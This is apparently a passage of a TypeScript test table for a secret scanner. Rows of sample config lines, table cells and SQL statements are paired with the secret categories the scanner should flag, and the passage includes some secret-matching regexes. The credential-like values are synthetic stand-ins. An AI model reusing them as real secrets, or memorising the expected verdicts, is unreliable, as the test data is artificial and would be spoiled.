  { text: 'NEO4J_AUTH=«neo4j/Xk29fLq84TzwQ7»', found: ['assigned-secret'] },
  { text: `AWS_SECRET_ACCESS_KEY=«${'wJalrXUtnFEMIK7MDENGbPxRfiCY'}/a1»`, found: ['assigned-secret'] },
  // A bearer token of written words is a test's stand-in (the forty-ninth sample's test plans); a generated one is not.
  { text: 'headers={"Authorization": "Bearer phaze_agent_unknown-token-string-1234"}', found: [] },
  { text: 'calls with `Bearer phaze_agent_definitely_not_a_token_12345` → 403', found: [] },
  { text: `headers={"Authorization": "Bearer «phaze_agent_${'x7Gk2Qp9Zr4'}»"}`, found: ['bearer-token'] },
  // An account or contract address (`0x` and 40 hex digits) is public; a private key (64) is not.
  { text: `   COLLATERAL_TOKEN=0x${'9f86d081'.repeat(5)}`, found: [] },
  { text: `DEPLOYER_PRIVATE_KEY=«0x${'9f86d081884c7d65'.repeat(4)}»`, found: ['assigned-secret'] },
  // A number in hexadecimal that fits a machine word is an address, an offset or a constant (the
  // hundred-and-seventeenth sample's hand-over: a function's offset beside a name with `Token` in it).
  { text: '- `UpdateSessionToken`: `0x6426cc` (Symbol: `Java_com_example_Native_updateSessionToken`)', found: [] },
  { text: 'SESSION_TOKEN_MASK=0xdeadbeefcafef00d', found: [] },
  { text: `SESSION_TOKEN=«0x${'9f86d081884c7d65'}a1»`, found: ['assigned-secret'] },
  // A regular expression that matches secrets is none (the hundred-and-thirty-ninth sample's plan, a check that no
  // secret was committed).
  {
    text: "- No secret: `grep -nE 'MASTER_KEY:\\s*[A-Za-z0-9+/=]{16,}|AI_API_KEY:\\s*\\S' x.yml` prints NOTHING",
    found: [],
  },
  { text: 'API_KEY=[A-Za-z0-9]{32}', found: [] },
  // Groups of `x` are a mask: the form of WordPress's application passwords (the hundred-and-forty-first sample's
  // summary, two values held back and rejected).
  { text: 'export WORDPRESS_APP_PASSWORD="xxxx xxxx xxxx xxxx xxxx xxxx"', found: [] },
  { text: 'app_password="«abcd EFGH 1234 ijkl MNOP 5678»"', found: ['assigned-secret'] },
  // A value that is itself an assignment sets what its own name names (the hundred-and-thirty-eighth sample's
  // hand-over: an error code in a code span after a name with `PASSWORD` in it).
  { text: '- **`NEW_PASSWORD_SAME_AS_OLD` 不复用 `BAD_REQUEST=40000`**:DTO 校验兜底是泛错', found: [] },
  { text: '| `newPassword` | length 8–128 | `BAD_REQUEST=40000` |', found: [] },
  { text: 'password: «DB_PASSWORD=Xk29fLq84TzwQ7»', found: ['assigned-secret'] },
  { text: 'password: DB_PASSWORD=changeme', found: [] },
  // A token's claims by their registered names: the audience and the party it was issued to (the
  // hundred-and-forty-fourth sample's plan, a smoke test's evidence).
  {
    text: 'Mitigations: assert `aud` on decoded access tokens, assert ID token remains `aud=shop4u-frontend`',
    found: [],
  },
  { text: 'Evidence: access token `aud=account`, `azp=shop4u-frontend`, ID token `aud=shop4u-frontend`', found: [] },
  { text: 'ID token: `«auth=Xk29fLq84TzwQ7»`', found: ['assigned-secret'] },
  // A name in a code span is Markdown's quoting: an operator after it makes a setting, read as for the bare name.
  { text: `- \`UFIT_SECRET_KEY\` = \`«${'2dd6a7f37cd0e3f9'.repeat(4)}»\``, found: ['assigned-secret'] },
  { text: '- `DB_PASSWORD`: `«Xk29fLq84TzwQ7»`', found: ['assigned-secret'] },
  { text: '- `TEST_TOKEN`: 测试用的认证token', found: [] },
  { text: '  - `FIGMA_ACCESS_TOKEN`: Figma访问令牌', found: [] },
  // A table row: a name in the row's first cell, its value filling the next.
  { text: '| Database password | «Xk29fLq84TzwQ7» |', found: ['assigned-secret'] },
  { text: '| Database password | `«Xk29fLq84TzwQ7»` |', found: ['assigned-secret'] },
  // A secret's name alone in a table cell gives the value a later cell opens with in a code span (the twenty-fourth
  // whole-repository sample's encryption key, missed).
  {
    text: '| `FIELD_ENCRYPTION_KEY` | **ADD THIS** | `«q3Vn8xK2pL0wR7tY5uI9oP1aS4dF6gH8jK0lZ2xC4vB=»` (or new) |',
    found: ['assigned-secret'],
  },
  { text: '| API_KEY | x | `«Xk29fLq84TzwPq7»` |', found: ['assigned-secret'] },
  // A cell that goes on after its code span says what happens: the span is what it describes (the eighty-first
  // sample's login modes and the API call each makes).
  { text: '| `password` | Account + password | `bind12306` → on SMS error → switch mode |', found: [] },
  { text: '| API_KEY | x | `«Xk29fLq84TzwPq7»`. |', found: ['assigned-secret'] },
  { text: '| api_key | `string` | required |', found: [] },
  { text: '| password | string | `min 8 chars` |', found: [] },
  { text: '| `OPENAI_API_KEY` | Set | |', found: [] },
  { text: 'the API key | `Xk29fLq84TzwPq7`', found: [] },
  { text: '| Name | `Xk29fLq84TzwPq7` |', found: [] },
  // Code and settings written out: a variable's member or index, a setting given a number (session 24's samples).
  { text: "const token = tokenMatch?.[1] ?? '';", found: [] },
  { text: 'const password = args[0];', found: [] },
  { text: 'test_liquidation_safety_pass: entry=0.5, sl=0.4', found: [] },
  { text: 'spring.datasource.password=«Pa55w0rd=1%»', found: ['assigned-secret'] },
  // A SQL condition compares; a key file's name is where the key is (the twenty-eighth sample's three rejections).
  { text: "- SQL: `select url from personalized_links where token = 'Xk29fLq8';` returns", found: [] },
  { text: "SELECT id FROM users WHERE password = 'Xk29fLq84Tzw' AND id = 1", found: [] },
  { text: "UPDATE users SET password = '«Xk29fLq84Tzw»' WHERE id = 1", found: ['assigned-secret'] },
  { text: `select * from keys where token = '«${'ghp_' + 'A1b2'.repeat(9)}»'`, found: ['github-token'] },
  { text: '**ASC API key:** `AuthKey_A1BCD2EFGH.p8`, issuer below', found: [] },
  { text: '| `QUIRK_WEBHOOK_HMAC_KEY` | HMAC-SHA256 signing key | `a-long-random-string` |', found: [] },
  { text: '| `CF_TOKEN` | `TF_VAR_cf_api_token` | `cloudflare_api_token` | k3s-gitops-app |', found: [] },
  { text: '| password | reset via the admin page |', found: [] },
  // A label may say where a secret lives or how it stands between its name and its colon: the code span after the
  // colon is the value (the twenty-fourth and twenty-ninth samples' credentials missed); an unquoted word starts a
  // sentence.
  {
    text: `- Ghost Admin API key available: \`«${'6b1e'.repeat(6)}:${'9f86d081'.repeat(8)}»\``,
    found: ['assigned-secret'],
  },
  { text: 'API_SECRET (`worker/.dev.vars`): `«Xk29fLq84TzwQ7mN»`.', found: ['assigned-secret'] },
  { text: 'Token budget: about 12k per call', found: [] },
  { text: '- Token stored in: `.env.local`', found: [] },
  { text: '- API key used: `OPENAI_API_KEY`', found: [] },
  { text: '- Auth flow: `oauth2-pkce`', found: [] },
  { text: '- Secret rotated on: `2026-01-05`', found: [] },
  { text: 'the key (`a1b2`) is unused', found: [] },
  // A value in words of a script other than Latin describes what the name holds (the thirty-first sample's swap
  // parameter, held back and rejected).
  { text: '  fromToken = 用户持有的代币地址', found: [] },
  { text: 'PASSWORD=пароль-для-теста', found: [] },
  { text: 'PASSWORD=«Xk29fLq84Tzw»', found: ['assigned-secret'] },
  // An interpolation makes a template or a type of the value (the thirtieth sample's rejected finding: a cast).
  { text: '  const account = privateKeyToAccount(OPERATOR_PRIVATE_KEY as `0x${string}`)', found: [] },
  { text: 'API_KEY=sk_${ENV}_Xk29fLq84Tzw', found: [] },
  { text: '        stdin: "OPENROUTER_API_KEY=\\(secret) tool update")', found: [] },
  { text: 'API_KEY=«sk_Xk29fLq84Tzw$Q»', found: ['assigned-secret'] },
  // Letters alone whose case changes as a generator's does are a value in prose too (the thirty-third sample's missed
  // MCP token); written words and identifiers are not.
  { text: '- **Token**: `«xbeQkLmPzRtAvNwd»`', found: ['assigned-secret'] },
  { text: '- **Token**: `HelloWorldAgainToday`', found: [] },
  { text: '- **Token**: `XMLHttpRequest`', found: [] },
  { text: '- **Token**: `abcdefghijklmnop`', found: [] },
  // A choice written between words is the options a setting takes (the thirty-fourth sample's feature flag).
  { text: 'ENABLE_SUPABASE_AUTH=true/false', found: [] },
  { text: 'API_TOKEN=dev|staging|prod', found: [] },
  { text: 'API_TOKEN=«Xk29fLq8/4TzwQ7mN»', found: ['assigned-secret'] },
  // `PASS:` in capitals is a test runner's verdict.
  { text: '--- PASS: TestSanityRegression_VolumeSize_Int64 (0.00s)', found: [] },
  { text: 'PASS: TestSanityRegression_VolumeSize_Int64', found: [] },
  { text: 'pass: «Xk29fLq84Tzw»', found: ['assigned-secret'] },
  // A provider's prefix on a written value shows the format; a generated rest is still a value.
  { text: '# ❌ terraform apply -var=vault_token=hvs.secret123 -var=region=eu', found: [] },
  { text: 'GITHUB_TOKEN=ghp_your_token_here', found: [] },
  { text: 'VAULT_TOKEN=«hvs.Xk29fLq84TzwQ7»', found: ['assigned-secret'] },
  // A CI value that says what it is, a number and its unit among its words (the sixty-eighth sample's workflow plans).
  { text: '          AUTH_SECRET: ci-auth-secret-do-not-use-in-prod-32b', found: [] },
  { text: "    OTP_HMAC_KEY: 'test-hmac-key-do-not-use-in-prod-32bytes!',", found: [] },
  { text: 'AUTH_SECRET: «ci-auth-Xk29fLq84TzwQ7-32b»', found: ['assigned-secret'] },
  // A test's sentinel named after its phase: a word and its number among the words (the eighty-fifth sample's plan).
  { text: 'uses a unique sentinel value (e.g., `TIINGO_API_KEY=tk_phase19_test_sentinel_xyz`)', found: [] },
  { text: 'TIINGO_API_KEY=«tk_Xk29fLq84TzwQ7_test»', found: ['assigned-secret'] },
  // A list whose lead-in names its entries identifiers holds a credential store's ids, not its secrets (the
  // eighty-seventh sample's workflow plans, session 30); elsewhere the same line is a credential.
  { text: '<!-- Existing credential IDs -->\nClaude API credential: aBcdEf1GhIJklMnO\n', found: [] },
  { text: '## Credential IDs\n\n- Claude: aBcdEf1GhIJklMnO\n- Perplexity credential: 9xQRS1T2U3v4WXYZ\n', found: [] },
  { text: 'Claude API credential: «aBcdEf1GhIJklMnO»\n', found: ['assigned-secret'] },
  { text: '<!-- Credential IDs -->\nClaude: aBcdEf1GhIJklMnO\n\nA node. Credential: aBcdEf1GhIJklMnO.\n', found: [] },
  {
    text: '## Credential IDs\n\nSee below.\n\n## Keys\n\nAPI credential: «aBcdEf1GhIJklMnO»\n',
    found: ['assigned-secret'],
  },
  // A table's header says what its column holds: a value in a column of ids is an id wherever it stands again (the
  // hundred-and-fifth sample's plan, its design screens' ids in rows that name an `Auth` page, session 31).
  {
    text:
      '| Stitch Screen | screenId |\n|---|---|\n| Login Screen | `8fa81c0e5b7d2a4f6e8c0b1d3a5f7e9c` |\n\n' +
      '| Route | Page | Source |\n|---|---|---|\n| `/auth` | Auth | `8fa81c0e5b7d2a4f6e8c0b1d3a5f7e9c` |\n',
    found: [],
  },
  { text: '| Item | Key ID |\n| --- | --- |\n| Auth | `8fa81c0e5b7d2a4f6e8c0b1d3a5f7e9c` |\n', found: [] },
  {
    text: '| Route | Page | Source |\n|---|---|---|\n| `/auth` | Auth | `«8fa81c0e5b7d2a4f6e8c0b1d3a5f7e9c»` |\n',
    found: ['assigned-secret'],
  },
  {
    text: '| Name | Paid |\n|---|---|\n| API_KEY | `«8fa81c0e5b7d2a4f6e8c0b1d3a5f7e9c»` |\n',
    found: ['assigned-secret'],
  },
  // The id in a document's link is that document's, wherever the text gives it (the hundred-and-fifty-second sample's
  // summary: a spreadsheet's token, its link on the next line); a key in another link's path stays one.
  {
    text: `- **Token**: \`${DOC_ID}\`\n- **Link**: https://team.feishu.cn/sheets/${DOC_ID}\n`,
    found: [],
  },
  {
    text: `Sheet token: ${DOC_ID} (https://docs.google.com/spreadsheets/d/${DOC_ID}/edit)`,
    found: [],
  },
  {
    text: `ALCHEMY_API_KEY=«${DOC_ID}»\nRPC: https://eth-mainnet.g.alchemy.com/v2/${DOC_ID}\n`,
    found: ['assigned-secret'],
  },
  {
    text: '- **Token**: `«Xk29fLq84TzwQ7pLmN2bVc5RtYu»`\n- **Link**: https://team.feishu.cn/sheets/other\n',
    found: ['assigned-secret'],
  },
  // A key whose own prefix says it is public, issued for clients (Supabase's, the eighty-seventh sample's plans).
  { text: '    -H "apikey: sb_publishable_7xYz_Q2WErTy4u5i6OpAsd_FG3hjKLz"', found: [] },
  { text: '    -H "apikey: «sb_secret_7xYz_Q2WErTy4u5i6OpAsd_FG3hjKLz»"', found: ['supabase-key'] },
  { text: 'apikey: «pk_Xk29fLq84TzwQ7pLmN2b»', found: ['assigned-secret'] },
  // A local development value says so (the eighty-sixth sample's local settings, session 30).
  { text: '- Add `"APP_PASSWORD": "localdev123"` to Values', found: [] },
  { text: '- Add `"APP_PASSWORD": "«Xk29fLq84Tzw»"` to Values', found: ['assigned-secret'] },
  // A provider's prefix before written words (Google's refresh token `1//`).
  { text: 'const tokens = { access_token: "ya29.test", refresh_token: "1//test-refresh" };', found: [] },
  { text: 'refresh_token: "«1//0gXk29fLq84TzwQpL7»"', found: ['assigned-secret'] },
  // Settings that name where a secret is kept (Docker's build secrets).
  { text: '    contains: "RUN --mount=type=secret,id=MAXMIND_LICENSE_KEY"', found: [] },
  { text: '(`docker build --secret id=MAXMIND_LICENSE_KEY,env=MAXMIND_LICENSE_KEY .`)', found: [] },
  { text: 'API_KEY=«id=Xk29fLq84TzwQ»', found: ['assigned-secret'] },
  // A sentinel the deploy replaces, and the name of an algorithm.
  { text: 'UNSUBSCRIBE_HMAC_SECRET=__set_via_fly_secrets_set__', found: [] },
  { text: 'SECRET=«__Xk29fLq84Tzw__»', found: ['assigned-secret'] },
  { text: '| T-03-18 | Tampering | Token is HMAC-SHA256 signed with UNSUBSCRIBE_SECRET env var. |', found: [] },
  { text: 'provides: "signUnsubToken + verifyUnsubToken HMAC-SHA256 stateless tokens"', found: [] },
  { text: 'JWT_SECRET=«HS256-3f9a8b7c6d5e4f3a2b1c»', found: ['assigned-secret'] },
  // A negated variable is a flag; a file's name and line is a place in code (the seventy-first sample).
  { text: '        obscureText: !_showAccessToken,', found: [] },
  { text: '- Server bootstrap token env is `BUILDHOUND_BOOTSTRAP_TOKEN` (`Application.kt:172`); both', found: [] },
  { text: 'password: «!Xk29fLq84TzwQ»', found: ['assigned-secret'] },
  // Several lines of a file (the hundred-and-forty-fifth sample's plan).
  {
    text: 'features still use `VITE_ANTHROPIC_API_KEY`: `useBrandChat.ts:77,97`, `ContentStudio.tsx:17`) is a blocker',
    found: [],
  },
  { text: 'API_KEY: `«Xk29fLq84TzwQ:77,97»`', found: ['assigned-secret'] },
  // A message's key, an action's or a flag's, named by what became of the secret or what a screen does with it.
  { text: "  INVALID_CREDENTIALS: 'Imel ko kalmar sirri ba daidai ba',", found: [] },
  { text: "  resetPassword: 'Kuna lati tun ọrọ aṣina ṣe',", found: [] },
  { text: "  resetToken: '«Xk29fLq84TzwQpL7mN2»',", found: ['assigned-secret'] },
  { text: "  DB_PASSWORD: '«correct horse battery staple»',", found: ['assigned-secret'] },
  // Code of a Laravel plan, a slot named in braces, a seed login's counting digits, stand-in words in Portuguese and
  // `pass`, an instruction in the value's place (the seventy-second and seventy-third samples).
  { text: "            'pulse.auth' => \\App\\Http\\Middleware\\AuthorizePulse::class,", found: [] },
  { text: "        'token' => \\App\\Models\\ApiToken::hashToken($plain),", found: [] },
  { text: 'API_TOKEN=«\\Xk29fLq84Tzw\\Qp7»', found: ['assigned-secret'] },
  { text: '| T-03-07 | storage key = "contents/{id}/{UUID}_{filename}" — raw |', found: [] },
  { text: 'password = "«Xk29{fLq84}Tzw»"', found: ['assigned-secret'] },
  { text: 'Acessar `http://localhost:8006/login` (admin@admin.com / 12345678)', found: [] },
  { text: 'password: «12345679»', found: ['assigned-secret'] },
  { text: "        'callback_token' => 'segredo-123',", found: [] },
  { text: 'POST /users { loginId: "testuser", password: "Pass1234!" }', found: [] },
  { text: 'POST /auth/login { loginId: "admin", password: "«Admin1234!»" }', found: ['assigned-secret'] },
  { text: 'SETTINGS_ENCRYPTION_KEY=generate-a-32-char-hex-string-here', found: [] },
  { text: 'API_KEY=«set-Xk29fLq84Tzw»', found: ['assigned-secret'] },
  { text: '', found: [] },
];

describe('findSecrets', () => {
  it('has a table of at least 100 rows', () => {
    expect(rows.length).toBeGreaterThanOrEqual(100);
  });

  // The scanner keeps its trigger codes in one array shared by every scan; a scan must not
  // see another's codes, whether few (sorted by insertion) or many (sorted natively).
  it('finds the same secrets whatever was scanned before, with few or many triggers in a text', () => {
    const few = `GH_TOKEN=${f.github} and ${f.aws}`;
    const many = Array.from({ length: 40 }, (_, i) =>
      i % 2 === 0 ? `key_${i}: ${f.stripeLive}` : `the token is ${f.npm}`,
    ).join('\n');
    const fresh = [findSecrets(few), findSecrets(many)];
    expect(fresh[0]!.map((x) => x.category)).toEqual(['github-token', 'aws-access-key-id']);
    expect(fresh[1]!.length).toBe(40);
    findSecrets('password='.repeat(1e5)); // grows the shared array well past its usual size
    expect([findSecrets(few), findSecrets(many)]).toEqual(fresh);
    expect(findSecrets(`${many}\n${few}`).map((x) => x.category)).toEqual([
      ...fresh[1]!.map((x) => x.category),
      'github-token',
      'aws-access-key-id',
    ]);
  });
});

describeRows('findSecrets rows', rows);
